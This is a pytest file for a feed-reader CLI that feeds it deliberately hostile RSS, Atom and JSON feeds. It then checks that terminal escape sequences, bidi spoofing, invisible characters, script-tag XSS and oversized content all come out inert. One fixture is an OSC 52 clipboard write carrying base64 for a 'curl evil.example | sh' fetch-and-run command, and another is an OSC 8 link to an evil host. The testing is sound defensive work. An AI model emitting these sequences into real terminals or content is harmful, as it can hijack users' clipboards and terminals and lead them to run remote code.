"""Hostile text and links, end to end: from a loopback server to what the user sees.

A server on 127.0.0.1 serves RSS 2.0, Atom and JSON Feed documents generated here,
carrying terminal escape sequences (raw and as character references), C0/C1
controls, rich markup, emoji codes, bidi and invisible characters, HTML and
script in every text field; megabyte titles; 100,000 items; duplicate and
ever-changing guids; absurd dates; and links a browser must never be handed.
Each case subscribes with ``storyfeed add`` and looks at every command's output:
in a pipe, as JSON, and on a real terminal (a pseudo-terminal, so that rich
renders its table with colours).

The sanitiser itself is unit-tested in test_text.py and the parser in
test_parse.py; here the question is only what reaches the screen, the browser
and the notification channel.
"""

from __future__ import annotations

import fcntl
import json
import os
import pty
import re
import select
import struct
import subprocess
import sys
import termios
import threading
import time
import tty
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from conftest import Result

Run = Callable[..., Result]
EXE = Path(sys.executable).with_name("storyfeed")
COLUMNS = 400  # a wide terminal: the whole hostile title fits in the table's title column

# --- what must never reach the user ------------------------------------------------------

# C0 but tab and newline, DEL, C1, bidi embeddings/overrides/isolates and marks,
# zero-width space, word joiner and the invisible operators, BOM. ZWJ and ZWNJ
# (U+200D, U+200C) are kept by design: emoji sequences and several scripts need them.
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e"
    "\u2060-\u2064\u2066-\u2069\ufeff]"
)
# Words that only exist inside a control string (an OSC, DCS, ...): removing the
# sequence must remove them too, or the terminal's title, clipboard or hyperlink
# target would simply be shown as text (harmless, but it means the sequence was
# only half understood).
HIDDEN = ("pwned-title", "osc8.evil.example", "Y3VybCBldmls", "dcs-payload")
# The same for the 8-bit (C1) control strings. In XML, feedparser turns their
# terminator U+009C into "œ" (windows-1252), so those strings arrive unended: then
# only the opener is removed and the payload stays as plain text, since an opener
# without an end is as likely a mis-encoded letter as an attack, and the rest of the
# field must not be lost. Only JSON Feed delivers them intact.
C1_HIDDEN = ("c1-title", "c1-dcs", "c1-sos", "c1-pm", "c1-apc")
# Shown literally, never interpreted: rich markup, a rich hyperlink, emoji codes.
MARKUP = "[bold red]RICH[/]"
RICH_LINK = "[link=https://rich.example/]richlink[/link]"
EMOJI_CODE = ":smile:"
END = "END-OF-FIELD"  # the last word of every hostile field: nothing before it ate the rest
LITERAL = (MARKUP, RICH_LINK, EMOJI_CODE, END)


def assert_inert(text: str, where: str) -> None:
    """No control, bidi or invisible character, and no control-string payload."""
    bad = sorted({f"U+{ord(char):04X}" for char in FORBIDDEN.findall(text)})
    assert bad == [], f"{where}: {bad} in {text[:2000]!r}"
    hidden = (*HIDDEN, *C1_HIDDEN) if where.startswith("json") else HIDDEN
    for word in hidden:
        assert word not in text, f"{where}: {word!r} (inside a control string) is shown"


def assert_literal(text: str, where: str) -> None:
    for marker in LITERAL:
        assert marker in text, f"{where}: {marker!r} is not shown literally in {text[:2000]!r}"


# --- the hostile documents ---------------------------------------------------------------

ESCAPES = (
    "\x1b[5;8;41mBLINK\x1b[0m \x1b[2J\x1b[H "  # SGR blink+conceal+red background, clear
    "\x1b]0;pwned-title\x07 "  # OSC 0: window title
    "\x1b]8;;https://osc8.evil.example/\x1b\\click\x1b]8;;\x1b\\ "  # OSC 8 hyperlink
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 "  # OSC 52: write the clipboard
    "\x1bPdcs-payload\x1b\\ \x1b(0 \x1b7\x1b8 "  # DCS, charset switch, save/restore cursor
    "\x00\x07\x08\x0b\x0c\x0e\x1c\x1f\x7f"  # C0 and DEL
)
# 8-bit forms: CSI, NEL, RI and other C1 controls; then OSC, DCS, SOS, PM and APC strings
# terminated by ST. They come last in a field: feedparser reads C1 in XML as windows-1252,
# which turns ST (0x9C) into "œ" but leaves OSC (0x9D) and DCS (0x90), undefined there,
# as they are, and an unterminated control string runs to the end of the field.
C1 = "\x9b31m \x85nel \x8dri \x80\x81\x8a\x8f\x91\x9a"
C1_STRINGS = "\x9d0;c1-title\x9c \x90c1-dcs\x9c \x98c1-sos\x9c \x9ec1-pm\x9c \x9fc1-apc\x9c"
INVISIBLE = (
    "\u202egnp.exe\u202c \u2066iso\u2069 \u2067rli\u2069 \u200e\u200f\u061c "
    "pay\u200bpal mid\ufeffdle wj\u2060x \U0001f468\u200d\U0001f469\u200d\U0001f467"
)
BREAKS = "tab\there cr\rhere lf\nhere ls\u2028here"
SCRIPT = "<script>alert('xss')</script><b>bold</b> &amp; &lt;not a tag&gt;"
INLINE_HTML = "<i>italic</i> <script>alert('inline')</script> &amp;amp; &#x1b;[2J"


def plain_payload(label: str) -> str:
    """A field's raw text: the label that identifies it, then every attack."""
    return (
        f"{label} {MARKUP} {RICH_LINK} {EMOJI_CODE} {INLINE_HTML} {INVISIBLE} {BREAKS} "
        f"{ESCAPES} {C1} {END} {C1_STRINGS}"
    )


@dataclass(frozen=True)
class Document:
    body: bytes
    content_type: str


def json_document(stories: int, *, extra: str = "") -> Document:
    """JSON Feed 1.1: every string raw (JSON escapes the C0 controls as \\u001b ...)."""
    items = [
        {
            "id": f"story-{n}",
            "url": f"/posts/{n}",
            "title": plain_payload(f"Story{n}{extra}"),
            "summary": plain_payload("summary"),
            "content_html": f"<p>{plain_payload('content')}</p>{SCRIPT}",
            "authors": [{"name": plain_payload("author")}],
            "date_published": f"2020-05-{10 + n:02d}T00:00:00Z",
        }
        for n in range(1, stories + 1)
    ]
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": plain_payload("FeedName"),
        "home_page_url": "/",
        "items": items,
    }
    return Document(json.dumps(feed, ensure_ascii=False).encode(), "application/feed+json")


def xml_refs(text: str) -> str:
    """XML-escaped, with every control character as a character reference in turn:
    ``&#27;``, ``&#x1b;``, ``&#155;``, ``&#x9b;`` ..., decimal and hex alternating."""
    out = []
    for index, char in enumerate(escape(text)):
        code = ord(char)
        if (code < 0x20 and char not in "\t\n\r") or 0x7F <= code <= 0x9F:
            out.append(f"&#{code};" if index % 2 else f"&#x{code:x};")
        else:
            out.append(char)
    return "".join(out)


def raw_xml(text: str) -> str:
    """XML-escaped, control characters left as raw bytes (C0 makes the XML not well-formed)."""
    return escape(text)


def html_refs(text: str) -> str:
    """For well-formed XML: controls become HTML references (``&amp;#x1b;``) that only
    an HTML decoder turns back into characters; C1 stays raw (XML 1.0 allows it)."""
    out = []
    for char in text:
        code = ord(char)
        if (code < 0x20 and char not in "\t\n\r") or code == 0x7F:
            out.append(f"&amp;#x{code:x};")
        else:
            out.append(escape(char))
    return "".join(out)


def rss_document(stories: int, *, encode: Callable[[str], str], extra: str = "") -> Document:
    items = "".join(
        f"<item><guid isPermaLink='false'>story-{n}</guid>"
        f"<title>{encode(plain_payload(f'Story{n}{extra}'))}</title>"
        f"<link>/posts/{n}</link>"
        f"<description>{encode(plain_payload('summary'))}</description>"
        f"<content:encoded>{encode('<p>' + plain_payload('content') + '</p>' + SCRIPT)}"
        "</content:encoded>"
        f"<dc:creator>{encode(plain_payload('author'))}</dc:creator>"
        f"<pubDate>{10 + n:02d} May 2020 00:00:00 GMT</pubDate></item>"
        for n in range(1, stories + 1)
    )
    body = (
        '<?xml version="1.0" encoding="utf-8"?>'
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>{encode(plain_payload('FeedName'))}</title><link>/</link>"
        f"<description>{encode(plain_payload('channel'))}</description>{items}</channel></rss>"
    )
    return Document(body.encode(), "application/rss+xml; charset=utf-8")


def atom_document(stories: int, *, encode: Callable[[str], str], extra: str = "") -> Document:
    """Atom with ``type="html"`` text constructs: the escapes are HTML-escaped once more."""
    entries = "".join(
        f"<entry><id>urn:story:{n}</id>"
        f'<title type="html">{encode(escape(plain_payload(f"Story{n}{extra}")))}</title>'
        f'<link rel="alternate" href="/posts/{n}"/>'
        f'<summary type="html">{encode(escape(plain_payload("summary")))}</summary>'
        f'<content type="html">{encode("<p>" + plain_payload("content") + "</p>" + SCRIPT)}'
        "</content>"
        f"<author><name>{encode(plain_payload('author'))}</name></author>"
        f"<updated>2020-05-{10 + n:02d}T00:00:00Z</updated></entry>"
        for n in range(1, stories + 1)
    )
    body = (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        f'<title type="html">{encode(escape(plain_payload("FeedName")))}</title>'
        "<id>urn:feed</id><updated>2026-05-27T00:00:00Z</updated>"
        f'<link rel="alternate" href="/"/>{entries}</feed>'
    )
    return Document(body.encode(), "application/atom+xml; charset=utf-8")


Build = Callable[..., Document]
FORMATS: dict[str, Build] = {
    # Well-formed RSS: raw C1, bidi and zero-width characters; the ESC sequences travel
    # as HTML character references inside the text (&amp;#x1b;).
    "rss-well-formed": lambda n, **kw: rss_document(n, encode=html_refs, **kw),
    # RSS with raw ESC/C0 bytes: not well-formed, so feedparser's lenient parser reads it.
    "rss-raw-bytes": lambda n, **kw: rss_document(n, encode=raw_xml, **kw),
    # RSS with every control as an XML character reference (&#27; &#x1b; &#155; &#x9b;).
    "rss-char-refs": lambda n, **kw: rss_document(n, encode=xml_refs, **kw),
    "atom-raw-bytes": lambda n, **kw: atom_document(n, encode=raw_xml, **kw),
    "atom-char-refs": lambda n, **kw: atom_document(n, encode=xml_refs, **kw),
    "json-feed": lambda n, **kw: json_document(n, **kw),
}
# Where the 7-bit escape sequences reach the sanitiser intact, their payloads must vanish
# with them. In well-formed RSS they can only travel as HTML references, which the HTML
# decoder drops (it never yields C0 controls), so what was behind the ESC stays as inert
# text there: only the absence of control characters is asserted for that format.
PAYLOAD_HIDDEN = {name: name != "rss-well-formed" for name in FORMATS}


# --- the loopback site and the terminal ---------------------------------------------------


class Site:
    """Documents on 127.0.0.1 (pytest-httpserver), replaceable between requests."""

    def __init__(self, server: HTTPServer) -> None:
        self.server = server
        self.documents: dict[str, Document] = {}
        self.hits: dict[str, int] = {}
        self.lock = threading.Lock()

    def serve(self, path: str, document: Document) -> str:
        with self.lock:
            first = path not in self.documents
            self.documents[path] = document
        if first:
            self.server.expect_request(path).respond_with_handler(
                lambda request: self._answer(path, request)
            )
        return self.server.url_for(path)

    def serve_each_time(self, path: str, make: Callable[[int], Document]) -> str:
        """A document made afresh for every request (``make`` gets the request's number)."""

        def answer(request: Request) -> Response:
            with self.lock:
                count = self.hits[path] = self.hits.get(path, 0) + 1
            document = make(count)
            return Response(document.body, content_type=document.content_type)

        self.server.expect_request(path).respond_with_handler(answer)
        return self.server.url_for(path)

    def _answer(self, path: str, request: Request) -> Response:
        with self.lock:
            self.hits[path] = self.hits.get(path, 0) + 1
            document = self.documents[path]
        return Response(document.body, content_type=document.content_type)


@pytest.fixture
def site(httpserver: HTTPServer) -> Site:
    return Site(httpserver)


@dataclass(frozen=True)
class Screen:
    code: int
    out: str  # what the terminal received
    err: str


def on_terminal(
    *args: str, columns: int = COLUMNS, tz: str = "UTC", timeout: float = 60.0
) -> Screen:
    """Run ``storyfeed ARGS`` with its stdout on a pseudo-terminal ``columns`` wide, in
    time zone ``tz``.

    The terminal is in raw mode, so the bytes read are exactly the bytes written.
    """
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    tty.setraw(slave)
    env = {**os.environ, "TERM": "xterm-256color", "COLUMNS": str(columns), "LINES": "50"}
    env["TZ"] = tz
    for name in ("NO_COLOR", "FORCE_COLOR", "TTY_COMPATIBLE", "TTY_INTERACTIVE", "COLORTERM"):
        env.pop(name, None)
    err_path = Path(os.environ["STORYFEED_HOME"]) / f"tty-stderr-{time.monotonic_ns()}"
    with err_path.open("wb") as err_file:
        proc = subprocess.Popen(
            [str(EXE), *args], stdin=subprocess.DEVNULL, stdout=slave, stderr=err_file, env=env
        )
    os.close(slave)
    chunks: list[bytes] = []
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.5)
            if not ready:
                continue
            try:
                data = os.read(master, 1 << 16)
            except OSError:  # EIO: every writer of the terminal has gone
                break
            if not data:
                break
            chunks.append(data)
        else:
            proc.kill()
            pytest.fail(f"storyfeed {' '.join(args)} on a terminal took over {timeout} s")
        code = proc.wait(timeout=timeout)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    err = err_path.read_text(errors="replace")
    err_path.unlink()
    return Screen(code, b"".join(chunks).decode(errors="replace"), err)


SGR = re.compile(r"\x1b\[([0-9;]*)m")


def without_styles(screen: str) -> str:
    """The terminal output without rich's own colours and styles (SGR sequences only).

    Any other ESC left over came from a feed. The hostile SGR in the feeds uses codes
    rich never emits for storyfeed's styles (5 blink, 8 conceal, 41 red background),
    which :func:`assert_rich_styles_only` checks.
    """
    return SGR.sub("", screen)


def assert_rich_styles_only(screen: str, where: str) -> None:
    for params in SGR.findall(screen):
        codes = set(params.split(";"))
        assert not codes & {"5", "8", "41"}, f"{where}: a feed's SGR reached the terminal"
    plain = without_styles(screen)
    assert "\x1b" not in plain, f"{where}: {plain[plain.index(chr(27)) - 40 :][:120]!r}"


# --- helpers over the CLI ----------------------------------------------------------------


def rows(result: Result) -> list[list[str]]:
    return [line.split("\t") for line in result.out.splitlines()]


def stories_json(run: Run, *args: str) -> list[dict[str, Any]]:
    result = run("list", "--offline", "--json", *args)
    assert result.code == 0, result
    data = json.loads(result.out)
    assert isinstance(data, list)
    return data


def by_title(stories: list[dict[str, Any]], prefix: str) -> dict[str, Any]:
    (story,) = [s for s in stories if s["title"].startswith(prefix + " ")]
    return story


def write_config(home: Path, text: str) -> None:
    (home / "config.toml").write_text('default_feed = ""\n' + text)


# --- 1. hostile text in every field, every format, every output -------------------------


@pytest.mark.parametrize("kind", list(FORMATS))
def test_hostile_text_is_inert_in_every_output(run: Run, site: Site, kind: str) -> None:
    """Escape sequences (raw, as XML or HTML references, 7- and 8-bit), C0/C1 controls,
    bidi and invisible characters, rich markup and emoji codes, HTML and script, in the
    feed's title and every story's title, summary, content and author: add, list (pipe
    and JSON), read, feeds, open --print, notify to stdout and refresh --verbose show
    none of the controls, keep the markup as literal text, drop the script, and keep
    one story per line (and six fields per line) in the pipe format.
    """
    build = FORMATS[kind]
    url = site.serve("/feed", build(2))
    outputs: dict[str, Result] = {}

    outputs["add"] = added = run("add", url)
    assert added.code == 0, added
    assert "2 stories" in added.out
    assert added.out.count("\n") == 1, added.out  # one line, whatever the feed's name holds

    outputs["notify --backlog"] = told = run("notify", "--backlog")
    assert told.code == 0, told
    told_lines = told.out.splitlines()
    assert len(told_lines) == 2, told.out  # one line per story: `feed — title — link`
    assert all(line.count(" — ") >= 2 for line in told_lines)
    assert_literal(told.out, f"{kind}: notify")

    outputs["list"] = listed = run("list")
    assert listed.code == 0, listed
    table = rows(listed)
    assert len(table) == 2, listed.out  # no title's line break or tab broke a row
    assert all(len(row) == 6 for row in table), table
    assert [row[4].split(" ")[0] for row in table] == ["Story2", "Story1"]
    for row in table:
        assert row[5].startswith(site.server.url_for("/posts/")), row  # resolved, absolute
        assert row[3].startswith("FeedName ")
    assert_literal(listed.out, f"{kind}: list")

    stories = stories_json(run)
    outputs["list --json"] = run("list", "--offline", "--json")
    for story in stories:
        for field in ("feed", "title", "author"):
            assert "\n" not in story[field], (field, story[field])
            assert_literal(story[field], f"{kind}: JSON {field}")
        # ZWJ is kept by design (emoji sequences need it): the family emoji stays whole.
        assert "\U0001f468\u200d\U0001f469\u200d\U0001f467" in story["title"]

    for row in table:
        outputs[f"read {row[0]}"] = shown = run("read", row[0])
        assert shown.code == 0, shown
        head, _, body = shown.out.partition("\n\n")
        assert [line.split(":")[0] for line in head.splitlines()] == [
            "Title", "Feed", "Date", "Author", "Link",
        ]  # fmt: skip
        assert_literal(head, f"{kind}: read header")
        assert_literal(body, f"{kind}: read body")
        assert "alert(" not in body, body  # the script element is dropped with its text
        assert "bold" in body
        assert "<b>" not in body

    outputs["feeds"] = feeds = run("feeds")
    assert feeds.code == 0, feeds
    assert len(rows(feeds)) == 1 and len(rows(feeds)[0]) == 12, feeds.out
    outputs["feeds --json"] = feeds_json = run("feeds", "--json")
    (feed,) = json.loads(feeds_json.out)
    assert feed["title"].startswith("FeedName ")
    assert_literal(feed["title"], f"{kind}: feed title")

    outputs["open --print"] = opened = run("open", "--print", table[0][0])
    assert opened.code == 0, opened
    assert opened.out == table[0][5] + "\n"

    site.serve("/feed", build(3, extra="v2"))
    outputs["refresh --force --verbose"] = refreshed = run("refresh", "--force", "--verbose")
    assert refreshed.code == 0, refreshed
    assert refreshed.out.startswith("FeedName ")
    assert refreshed.out.rstrip("\n").endswith(": 1 new, 2 updated"), refreshed.out
    assert refreshed.out.count("\n") == 1

    outputs["notify"] = news = run("notify")
    assert news.code == 0, news
    assert len(news.out.splitlines()) == 1, news.out
    assert "Story3v2 " in news.out

    # The commands of search, diagnosis, settings and moving show the same text.
    for args in (
        ("search", "Story*"),
        ("search", "Story*", "--json"),
        ("doctor",),
        ("doctor", "--json"),
        ("set", str(feed["id"])),
        ("set", str(feed["id"]), "--json"),
        ("export",),
        ("prune", "--dry-run", "--older-than", "1d"),
    ):
        outputs[" ".join(args)] = shown = run(*args)
        assert shown.code == 0, shown
    assert len(rows(outputs["search Story*"])) == 3
    assert len(json.loads(outputs["search Story* --json"].out)) == 3

    for name, result in outputs.items():
        for stream, text in (("stdout", result.out), ("stderr", result.err)):
            if PAYLOAD_HIDDEN[kind]:
                assert_inert(text, f"{kind}: {name} {stream}")
            else:
                bad = sorted({f"U+{ord(c):04X}" for c in FORBIDDEN.findall(text)})
                assert bad == [], f"{kind}: {name} {stream}: {bad}"


@pytest.mark.parametrize("kind", ["rss-raw-bytes", "atom-char-refs", "json-feed"])
def test_hostile_text_on_a_terminal_is_plain_text(run: Run, site: Site, kind: str) -> None:
    """On a real (pseudo-)terminal rich renders tables and colours: the only escape
    sequences that reach it are rich's own styles. The feed's rich markup, hyperlink
    markup and emoji codes appear as typed, so nothing from a feed was parsed as markup
    (an interpreted ``[link=...]`` would show up as an OSC 8 sequence, ``:smile:`` as 😄).
    """
    url = site.serve("/feed", FORMATS[kind](2))
    assert run("add", url).code == 0
    story_id = rows(run("list", "--offline"))[0][0]

    site.serve("/feed", FORMATS[kind](3, extra="v2"))
    refreshed = on_terminal("refresh", "--force", "--verbose")
    listed = on_terminal("list", "--offline")
    read = on_terminal("read", story_id)
    feeds = on_terminal("feeds")
    screens = {
        "refresh": refreshed,
        "list": listed,
        "read": read,
        "feeds": feeds,
        "search": on_terminal("search", "Story*"),
        "doctor": on_terminal("doctor"),
        "set": on_terminal("set", "1"),
        "tags": on_terminal("tags"),
    }
    for name, screen in screens.items():
        assert screen.code == 0, screen
        assert_rich_styles_only(screen.out, f"{kind}: {name} on a terminal")
        plain = without_styles(screen.out)
        assert_inert(plain, f"{kind}: {name} on a terminal")
        assert_inert(screen.err, f"{kind}: {name} stderr")
        assert "\N{SMILING FACE WITH OPEN MOUTH AND SMILING EYES}" not in plain  # :smile:
    assert without_styles(refreshed.out).startswith("FeedName " + MARKUP)
    assert without_styles(refreshed.out).endswith(": 1 new, 2 updated\n")
    list_lines = without_styles(listed.out).splitlines()
    assert len(list_lines) == 4, listed.out  # the header and three stories: nothing wrapped
    for line in list_lines[1:]:
        assert_literal(line, f"{kind}: table row")
        assert line.split()[0].isdigit()
    assert_literal(without_styles(read.out), f"{kind}: read on a terminal")
    body = without_styles(read.out).split("\ncontent ", 1)[1]
    assert "alert(" not in body, body
    assert MARKUP in without_styles(feeds.out)


@pytest.mark.parametrize(
    "title",
    [
        "<b>Bold</b> &amp; co",
        "<b>Bold</b> <script>alert(1)</script> &amp; co",
        "<b>Bold</b> <iframe src='x'></iframe> &amp; co",
    ],
    ids=["bold", "bold-and-script", "bold-and-iframe"],
)
def test_rss_titles_with_html_become_plain_text(run: Run, site: Site, title: str) -> None:
    """DESIGN 6, "titles with HTML become plain text": an RSS story title and feed name
    that hold (escaped) HTML are shown as their text, whatever elements they contain."""
    body = (
        f"<rss version='2.0'><channel><title>{escape(title)}</title>"
        f"<item><guid>g</guid><title>{escape(title)}</title><link>/p</link></item>"
        "</channel></rss>"
    )
    assert run("add", site.serve("/html-title.xml", Document(body.encode(), "text/xml"))).code == 0
    ((_, _, _, feed_name, story_title, _),) = rows(run("list"))
    assert (feed_name, story_title) == ("Bold & co", "Bold & co")


# --- 2. megabyte titles -------------------------------------------------------------------

MEGA = 1024 * 1024
BOUND = 64 * 1024  # what one command may print about one story or one feed


def mega_text(label: str) -> str:
    """About a megabyte of words, with a bidi override and an escape every 4 KiB."""
    chunk = ("mega " * 800) + "\u202e\x1b[31m"
    return label + " " + chunk * (MEGA // len(chunk) + 1)


def mega_feed() -> Document:
    """A feed named with a megabyte, one story titled with a megabyte and two plain ones
    (the megabyte story is the oldest, so notify takes it first)."""
    items = [
        {"id": "mega", "url": "/posts/mega", "title": mega_text("MegaTitle"),
         "date_published": "2020-01-01T00:00:00Z"},
        {"id": "plain-1", "url": "/posts/1", "title": "Plain one",
         "date_published": "2020-01-02T00:00:00Z"},
        {"id": "plain-2", "url": "/posts/2", "title": "Plain two",
         "date_published": "2020-01-03T00:00:00Z"},
    ]  # fmt: skip
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": mega_text("MegaFeed"),
        "items": items,
    }
    return Document(json.dumps(feed).encode(), "application/feed+json")


def test_megabyte_titles_fit_the_terminal(run: Run, site: Site) -> None:
    """A feed name and a story title of a megabyte each are accepted in reasonable time,
    and on a terminal `list` and `feeds` stay one screen line per row, cut to the width."""
    started = time.monotonic()
    added = run("add", site.serve("/mega.json", mega_feed()))
    took = time.monotonic() - started
    assert added.code == 0, added.err
    assert took < 60, f"adding a feed with megabyte titles took {took:.1f} s"
    for args in (("list", "--offline"), ("feeds",)):
        screen = on_terminal(*args, columns=120)
        assert screen.code == 0, screen.err
        assert_rich_styles_only(screen.out, " ".join(args))
        plain = without_styles(screen.out)
        assert_inert(plain, " ".join(args))
        lines = plain.splitlines()
        assert len(lines) == (4 if args[0] == "list" else 2), plain[:3000]
        assert max(len(line) for line in lines) <= 120, [len(line) for line in lines]
        assert len(screen.out.encode()) < 16 * 1024


def test_megabyte_titles_do_not_flood_any_output(run: Run, site: Site) -> None:
    """Whatever storyfeed shows of a story or a feed stays within a sane bound (64 KiB)
    even when the feed sends a megabyte title: how it is cut is storyfeed's choice."""
    assert run("add", site.serve("/mega.json", mega_feed())).code == 0
    mega_id = str(by_title(stories_json(run), "MegaTitle")["id"])
    sizes: dict[str, int] = {}
    told = run("notify", "--backlog")
    sizes["notify (stdout channel)"] = max(len(line) for line in told.out.splitlines())
    sizes["list (one pipe row)"] = max(len(line) for line in run("list").out.splitlines())
    sizes["list --json (one story)"] = max(len(json.dumps(s)) for s in stories_json(run))
    sizes["read"] = len(run("read", mega_id).out)
    sizes["read on a terminal"] = len(on_terminal("read", mega_id).out)
    sizes["feeds"] = len(run("feeds").out)
    sizes["feeds --json"] = len(run("feeds", "--json").out)
    too_big = {name: size for name, size in sizes.items() if size > BOUND}
    assert too_big == {}, f"bytes printed: {sizes}"


class Hook:
    """A json:// notification endpoint on the loopback server that, like a chat service,
    refuses messages over ``limit`` bytes with 413; it records what it accepted."""

    def __init__(self, server: HTTPServer, limit: int) -> None:
        self.accepted: list[dict[str, Any]] = []
        self.refused = 0
        self.limit = limit
        server.expect_request("/hook", method="POST").respond_with_handler(self._answer)
        self.url = f"json://127.0.0.1:{server.port}/hook"

    def _answer(self, request: Request) -> Response:
        body = request.get_data()
        if len(body) > self.limit:
            self.refused += 1
            return Response("message too long", status=413)
        self.accepted.append(json.loads(body))
        return Response("{}", status=200, content_type="application/json")


def test_a_megabyte_title_does_not_block_a_notification_channel(run: Run, site: Site) -> None:
    """A channel that refuses oversized messages (as ntfy, Discord or Telegram do) still
    gets the ordinary stories, run after run: one hostile title must not block it."""
    hook = Hook(site.server, limit=32 * 1024)
    assert run("add", site.serve("/mega.json", mega_feed())).code == 0
    first = run("notify", "--backlog", "--to", hook.url)
    second = run("notify", "--to", hook.url)
    texts = " ".join(str(message) for message in hook.accepted)
    assert "Plain one" in texts and "Plain two" in texts, (
        f"accepted {len(hook.accepted)} messages, refused {hook.refused}; exit codes "
        f"{first.code}, {second.code}; {first.err.strip()!r}"
    )


# --- 3. a feed of 100,000 items -------------------------------------------------------------

MANY = 100_000


def many_items(count: int) -> Document:
    """RSS 2.0 with ``count`` items, the newest first, a minute apart."""
    newest = datetime(2020, 5, 1, tzinfo=UTC)
    items = "".join(
        f"<item><guid isPermaLink='false'>item-{n}</guid><title>Item {n}</title>"
        f"<link>/items/{n}</link>"
        f"<pubDate>{(newest - timedelta(minutes=n)):%a, %d %b %Y %H:%M:%S} GMT</pubDate></item>"
        for n in range(count)
    )
    body = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>Many</title><link>/</link>{items}</channel></rss>"
    )
    return Document(body.encode(), "application/rss+xml")


def test_a_feed_of_100000_items(run: Run, site: Site, home: Path) -> None:
    """A 15 MB RSS document of 100,000 items (the body cap and the parser's time budget
    raised in config.toml, as such a feed needs; the memory budget left at its default)
    refreshes completely, and `list` stays quick."""
    # 100,000 items take feedparser 15-40 s on two busy cores: over the default 20 s budget.
    write_config(home, "max_body_bytes = 67108864\nparse_timeout = 300.0\n")
    url = site.serve("/many.xml", many_items(1))
    assert run("add", url).code == 0
    document = many_items(MANY)
    assert len(document.body) > 10 * 1024 * 1024  # over the default cap: hence the config
    site.serve("/many.xml", document)

    started = time.monotonic()
    refreshed = run("refresh", "--force")
    took = time.monotonic() - started
    assert refreshed.code == 0, refreshed
    assert refreshed.out == f"Many: {MANY - 1} new\n"
    assert took < 120, f"refreshing 100,000 items took {took:.1f} s"

    (feed,) = json.loads(run("feeds", "--json").out)
    assert (feed["stories"], feed["status"]) == (MANY, "ok")
    started = time.monotonic()
    listed = run("list", "--offline")
    list_took = time.monotonic() - started
    assert listed.code == 0
    table = rows(listed)
    assert [row[4] for row in table] == [f"Item {n}" for n in range(30)]
    assert list_took < 5, f"list over 100,000 stories took {list_took:.2f} s"
    last = rows(run("list", "--offline", "--limit", str(MANY)))
    assert len(last) == MANY
    assert last[-1][4] == f"Item {MANY - 1}"


# --- 4. identity: duplicate guids, guids that change -----------------------------------------


def duplicate_guid_document(kind: str, order: tuple[str, ...]) -> Document:
    """Items titled by ``order``; every title starting with "dup" shares one guid."""

    def key(title: str) -> str:
        return "the-same-guid" if title.startswith("dup") else f"guid-{title}"

    if kind == "json":
        items = [{"id": key(t), "url": f"/posts/{t}", "title": t} for t in order]
        feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Dups", "items": items}
        return Document(json.dumps(feed).encode(), "application/feed+json")
    if kind == "atom":
        entries = "".join(
            f"<entry><id>{key(t)}</id><title>{t}</title><link href='/posts/{t}'/>"
            "<updated>2026-05-01T00:00:00Z</updated></entry>"
            for t in order
        )
        body = (
            "<feed xmlns='http://www.w3.org/2005/Atom'><title>Dups</title><id>urn:d</id>"
            f"<updated>2026-05-01T00:00:00Z</updated>{entries}</feed>"
        )
        return Document(body.encode(), "application/atom+xml")
    items = "".join(
        f"<item><guid>{key(t)}</guid><title>{t}</title><link>/posts/{t}</link></item>"
        for t in order
    )
    body = f"<rss version='2.0'><channel><title>Dups</title>{items}</channel></rss>"
    return Document(body.encode(), "application/rss+xml")


@pytest.mark.parametrize("kind", ["rss", "atom", "json"])
def test_duplicate_guids_within_one_feed_are_stored_once(run: Run, site: Site, kind: str) -> None:
    """Three items sharing a guid in one document are one story (the first one wins);
    when the document changes order, that story is updated in place, keeps its id and
    does not become NEW again."""
    url = site.serve("/dups", duplicate_guid_document(kind, ("dup-a", "dup-b", "solo", "dup-c")))
    added = run("add", url)
    assert added.code == 0, added
    assert "2 stories" in added.out
    first = {row[4]: row for row in rows(run("list"))}
    assert sorted(first) == ["dup-a", "solo"]

    site.serve("/dups", duplicate_guid_document(kind, ("dup-c", "solo", "dup-a", "dup-b")))
    refreshed = run("refresh", "--force")
    assert refreshed.code == 0, refreshed
    assert refreshed.out == "Dups: 1 updated\n"
    after = {row[4]: row for row in rows(run("list", "--offline"))}
    assert sorted(after) == ["dup-c", "solo"]
    assert after["dup-c"][0] == first["dup-a"][0]  # the same story, renamed
    assert after["dup-c"][1] == "unread"  # shown once already: not NEW again
    assert json.loads(run("feeds", "--json").out)[0]["stories"] == 2


def test_guids_that_change_on_every_fetch_keep_one_story_per_post(run: Run, site: Site) -> None:
    """A feed whose guids change on every fetch (the same three posts, same titles and
    links): a new guid with the link and title of a stored story whose guid is gone
    is that story. So the feed keeps three stories, with their ids and read state,
    and notify never sends them again. A genuinely new post still arrives."""
    fetches = 5

    def document(fetch: int) -> Document:
        posts = range(4) if fetch == fetches else range(3)  # a fourth post at the end
        items = "".join(
            f"<item><guid isPermaLink='false'>fetch-{fetch}-post-{n}</guid>"
            f"<title>Post {n}</title><link>/posts/{n}</link></item>"
            for n in posts
        )
        return Document(
            f"<rss version='2.0'><channel><title>Shifty</title>{items}</channel></rss>".encode(),
            "application/rss+xml",
        )

    url = site.serve_each_time("/shifty.xml", document)
    assert run("add", url).code == 0
    assert run("notify").out == ""  # the first notify takes the baseline
    first = {s["title"]: s["id"] for s in stories_json(run, "--limit", "1000")}
    assert run("mark", "read", str(first["Post 1"])).code == 0
    sent: list[str] = []
    for fetch in range(2, fetches + 1):
        refreshed = run("refresh", "--force")
